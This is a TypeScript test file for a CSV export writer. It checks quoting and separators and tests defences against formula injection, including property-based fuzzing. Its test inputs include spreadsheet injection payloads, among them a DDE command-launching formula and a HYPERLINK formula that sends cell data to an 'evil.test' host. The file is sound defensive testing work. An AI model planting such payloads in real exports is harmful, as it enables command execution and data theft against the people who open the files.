import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { CsvOptions } from '@/lib/domain/export-choice';
import { trials } from '@/tests/support/trials';
import type { Cell, ColumnHead } from '../table';
import { createTestSink, inBatches } from '../test-sink';
import { writeCsv } from './csv';

const TEXT: ColumnHead[] = [{ name: 'order_id', kind: 'text' }];
const PLAIN: CsvOptions = { byteOrderMark: false, separator: ',' };

async function write(columns: ColumnHead[], rows: Cell[][], options = PLAIN): Promise<string> {
  const sink = createTestSink();
  await writeCsv(options)(columns, inBatches(rows, 100), sink);
  return sink.text();
}

const read = (text: string, delimiter = ',') => Papa.parse<string[]>(text.trimEnd(), { delimiter }).data;

describe('a CSV file', () => {
  const columns: ColumnHead[] = [
    { name: 'program', kind: 'text' },
    { name: 'payout', kind: 'decimal' },
    { name: 'actions', kind: 'count' },
    { name: 'day', kind: 'day' },
    { name: 'complete', kind: 'flag' },
    { name: 'history', kind: 'json' },
  ];

  it('has amounts as plain numbers and empty cells for what is missing', async () => {
    const rows = [
      ['Nordlys, Ski', '-12.30', 3, '2026-11-18', true, [{ a: 1 }]],
      [null, '0.0001', 0, null, false, null],
    ] as Cell[][];
    expect(await write(columns, rows)).toBe(
      'program,payout,actions,day,complete,history\r\n' +
        '"Nordlys, Ski",-12.30,3,2026-11-18,true,"[{""a"":1}]"\r\n' +
        ',0.0001,0,,false,\r\n',
    );
  });

  it('begins with a byte order mark where one is wanted', async () => {
    expect(await write(TEXT, [], { ...PLAIN, byteOrderMark: true })).toBe('\uFEFForder_id\r\n');
  });

  it('takes the semicolon where one is wanted', async () => {
    const text = await write(columns.slice(0, 2), [['A; B', '1.50']] as Cell[][], {
      ...PLAIN,
      separator: ';',
    });
    expect(text).toBe('program;payout\r\n"A; B";1.50\r\n');
  });
});

const FORMULA = /^["\t\r\n\0]*[=+\-@＝＋－＠]/u;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** What Excel, LibreOffice and Sheets would run, however they split the file. */
function findFormulas(text: string): string[] {
  return [',', ';', '\t', '|']
    .flatMap((delimiter) => read(text, delimiter).flat())
    .filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell));
}

describe('no text of others becomes a formula', () => {
  it.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\0=1',
    '＝1+1',
    '－1+1',
    '=cmd|"/c calc"!A1',
    '"=1+1',
    "'=1+1",
    'a;=1+1',
    'a\t=1+1',
    'a\n=1+1',
    'a,@x',
    'a|=1',
    '=HYPERLINK("https://evil.test?"&A1)',
    '"";=1',
  ])('%j', async (text) => {
    expect(findFormulas(await write(TEXT, [[text]]))).toEqual([]);
  });

  it.each(['-12.30', '12', '0.0001', 'NW-1', 'a=b', 'a@b.test', '—', 'x - y'])(
    'and %j stays as it is',
    async (text) => {
      expect(read(await write(TEXT, [[text]]))[1]).toEqual([text]);
    },
  );

  it.each(['\t1', '\r1', '\n1', '\0'])('and %j has an apostrophe before it', async (text) => {
    expect(Papa.parse<string[]>(await write(TEXT, [[text]]), { newline: '\r\n' }).data[1]).toEqual([
      `'${text}`,
    ]);
  });

  const nasty = fc.oneof(
    fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '\0',
      '"',
      "'",
      ';',
      ',',
      '|',
      '＝',
      '＋',
      '－',
      '＠',
      ' ',
    ),
    fc.string({ unit: 'binary', maxLength: 3 }),
    fc.constantFrom('12.30', '-4', 'cmd', 'https://a.test/?a=1', '\u202E', '😀'),
  );
  const cell = fc.array(nasty, { maxLength: 8 }).map((parts) => parts.join(''));

  it('over random cells; what is read back is what was written but for the apostrophes', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constant('Mine'), cell, cell), { minLength: 1, maxLength: 10 }),
        async (rows) => {
          const columns: ColumnHead[] = [
            // As in every table of ours: no row begins with what others wrote.
            { name: 'account', kind: 'text' },
            ...TEXT,
            { name: 'sub_id', kind: 'text' },
          ];
          const text = await write(columns, rows);
          expect(findFormulas(text)).toEqual([]);
          const back = Papa.parse<string[]>(text.slice(0, -2), {
            delimiter: ',',
            newline: '\r\n',
          }).data.slice(1);
          const without = (value: string) => value.replaceAll("'", '');
          expect(back.map((row) => row.map(without))).toEqual(rows.map((row) => row.map(without)));
        },
      ),
      { numRuns: trials(1_000, 20_000) },
    );
  });

  it('while an unguarded writer fails the same check', () => {
    expect(findFormulas(Papa.unparse([['order_id'], ['=1+1']]))).toContain('=1+1');
  });
});
